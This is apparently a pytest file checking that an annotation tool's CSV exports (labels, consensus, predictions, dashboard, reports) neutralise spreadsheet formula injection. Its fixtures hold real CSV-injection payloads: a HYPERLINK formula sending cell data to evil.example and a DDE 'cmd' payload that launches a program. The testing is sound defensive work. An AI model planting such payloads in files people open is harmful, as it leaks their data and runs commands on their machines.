"""Attack 6: exports carried live spreadsheet formulas. Every CSV the tool writes is read back here, cell by
cell, from a database whose thread ids, departments, reviewer names, notes, rationales and model
rationales start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return: no text cell may start a
formula (a number such as ``-0.25`` may), and each hostile text is still there behind its apostrophe.
Covered: ``export labels`` (CLI and the Rounds page's download), ``export consensus``, ``export
predictions``, the dashboard CSV, the import's skipped-rows report, ``report agreement|model`` CSV, and
``versions`` CSV. JSON Lines keeps the values exactly as stored."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlmodel import Session

from annotator.data.models import ModelRun, Prediction, Thread
from annotator.services import admin
from annotator.services.adjudication import resolve
from annotator.services.dashboard import build_dashboard, export_csv
from annotator.services.rounds import get_round
from annotator.spreadsheet import FORMULA_PREFIXES
from tests.factories import make_codebook, make_threads, run_cli, write_threads_csv

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]
REVIEWERS = ("=rev", "+rev", "@rev")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_spreadsheet_safe(text: str, *, expect: list[str] = ()) -> None:
    cells = _cells(text)
    live = [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
    assert live == [], f"cells a spreadsheet would run: {live[:5]}"
    for value in expect:
        assert "'" + value in cells, f"{value!r} is missing (or not neutralised)"


@pytest.fixture
def hostile(db_url, session, tmp_path):
    """Threads, a round with labels from reviewers whose names and notes start formulas, a decision and a run."""
    make_codebook(session)
    n = len(FORMULAS)
    threads = make_threads(session, n, seed=4, thread_id=[f"{FORMULAS[i % 4]}#{i}" for i in range(n)],
                           department=FORMULAS[0], role=FORMULAS[3])
    rows = ["thread_id,reviewer,category,note"]
    cats = ["Coding", "Research", "Coding"]
    for i, t in enumerate(threads):
        for j, r in enumerate(REVIEWERS):
            note = FORMULAS[(i + j) % n].replace('"', '""')
            rows.append(f'"{t.external_id.replace(chr(34), chr(34) * 2)}",{r},{cats[(i + j) % 3] if i % 2 else "Coding"},"{note}"')
    path = tmp_path / "labels.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    res = run_cli(["import-labels", path, "--round", "r1"], db_url)
    assert res.exit_code == 0, res.output
    rnd = get_round(session, "r1")
    resolve(session, round_id=rnd.id, thread_id=threads[1].id, category="Research", rationale=FORMULAS[0], actor="lead")
    run = ModelRun(backend="openai", model="gpt-4o", codebook_version_id=rnd.codebook_version_id, scope="round:r1",
                   status="done", prompt_template_version="v1", codebook_hash="x")
    session.add(run)
    session.flush()
    for i, t in enumerate(threads):
        session.add(Prediction(run_id=run.id, thread_id=t.id, category="Coding", status="ok", rationale=FORMULAS[i],
                               confidence=0.9, cache_key=f"k{i}"))
    session.commit()
    return threads


def test_label_consensus_and_prediction_exports_read_back_safe(db_url, session, hostile, tmp_path):
    for args, name in ((["labels", "--round", "r1"], "labels"), (["consensus", "--round", "r1"], "consensus"),
                       (["predictions", "--run", "latest"], "predictions")):
        out = tmp_path / f"{name}.csv"
        res = run_cli(["export", *args, "--format", "csv", "--out", out], db_url)
        assert res.exit_code == 0, res.output
        expect = {"labels": [FORMULAS[0]], "consensus": [], "predictions": FORMULAS}[name]  # tab and CR too
        with open(out, encoding="utf-8", newline="") as fh:  # as a spreadsheet reads it: CR is a line end
            assert_spreadsheet_safe(fh.read(), expect=[f"{FORMULAS[0]}#0", *expect])
    labels = tmp_path / "labels.csv"
    assert_spreadsheet_safe(labels.read_text(encoding="utf-8"), expect=list(REVIEWERS) + FORMULAS[:4])
    jsonl = tmp_path / "labels.jsonl"
    assert run_cli(["export", "labels", "--round", "r1", "--format", "jsonl", "--out", jsonl], db_url).exit_code == 0
    notes = {json.loads(line)["note"] for line in jsonl.read_text(encoding="utf-8").splitlines()}
    assert set(FORMULAS[:4]) <= notes  # JSON Lines keeps what was stored (the CSV import trims whitespace)


def test_the_rounds_page_download_is_the_same_safe_csv(session, hostile):
    data = admin.export_labels_bytes(session, "r1", "csv").decode("utf-8")
    assert_spreadsheet_safe(data, expect=list(REVIEWERS) + [FORMULAS[0]])


def test_the_dashboard_csv_is_safe(session, hostile):
    dash = build_dashboard(session, run_id=None)
    assert_spreadsheet_safe(export_csv(dash).decode("utf-8"), expect=[FORMULAS[0]])


def test_report_csvs_are_safe(db_url, hostile):
    res = run_cli(["report", "agreement", "--round", "r1", "--format", "csv", "--boot", "20"], db_url)
    assert res.exit_code == 0, res.output
    assert_spreadsheet_safe(res.stdout, expect=["=rev"])
    res = run_cli(["report", "model", "--run", "latest", "--round", "r1", "--format", "csv", "--boot", "20",
                   "--allow-pending"], db_url)  # the fixture leaves two disagreements pending
    assert res.exit_code == 0, res.output
    assert_spreadsheet_safe(res.stdout)
    res = run_cli(["versions", "--format", "csv", "--n-boot", "20", "--allow-pending"], db_url)
    assert res.exit_code == 0, res.output
    assert_spreadsheet_safe(res.stdout)


def test_the_skipped_rows_report_is_safe(db_url, tmp_path):
    src = write_threads_csv(tmp_path / "threads.csv", 4, seed=2, text=["ok one", "", "=1+1", "ok two"],
                            thread_id=["a", "=HYPERLINK(\"x\")", "-b", "@c"])
    report = tmp_path / "skipped.csv"
    res = run_cli(["import-threads", src, "--report", report], db_url)
    assert res.exit_code == 0, res.output
    text = report.read_text(encoding="utf-8")
    assert len(_cells(text)) > 3
    assert_spreadsheet_safe(text)
